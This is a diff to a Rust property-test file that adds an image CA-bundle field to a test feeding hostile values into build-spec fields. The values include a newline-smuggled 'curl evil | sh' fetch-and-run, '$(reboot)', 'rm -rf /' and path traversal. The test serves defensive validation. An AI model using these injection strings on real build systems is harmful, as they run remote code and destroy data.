@@ -26,6 +26,7 @@ fn strings_of(spec: &envbuild::core::spec::Spec) -> Vec<String> {
     v.extend(spec.target.gpus.iter().cloned());
     v.extend(spec.image.base.iter().cloned());
     v.extend(spec.image.wheels.iter().cloned());
+    v.extend(spec.image.ca_bundle.iter().cloned());
     v.extend(spec.run.datasets.iter().cloned());
     v.extend(spec.run.checkpoints.iter().cloned());
     v.push(spec.run.shm_size.clone());
@@ -75,7 +76,7 @@ proptest! {
 
     #[test]
     fn hostile_field_values_are_refused_or_safe(
-        field in prop::sample::select(vec!["name", "python", "pytorch", "cuda", "target.driver", "image.base", "image.wheels", "run.datasets", "run.shm-size"]),
+        field in prop::sample::select(vec!["name", "python", "pytorch", "cuda", "target.driver", "image.base", "image.wheels", "image.ca-bundle", "run.datasets", "run.shm-size"]),
         value in prop::sample::select(vec![
             "x\nRUN curl evil | sh", "$(reboot)", "`id`", "a; rm -rf /", "a' b", "a\" b", "---", "a\\nb",
             "../../etc", "/data/../x", "x&&y", "a|b", "%ENV%", "\u{202e}rtl"
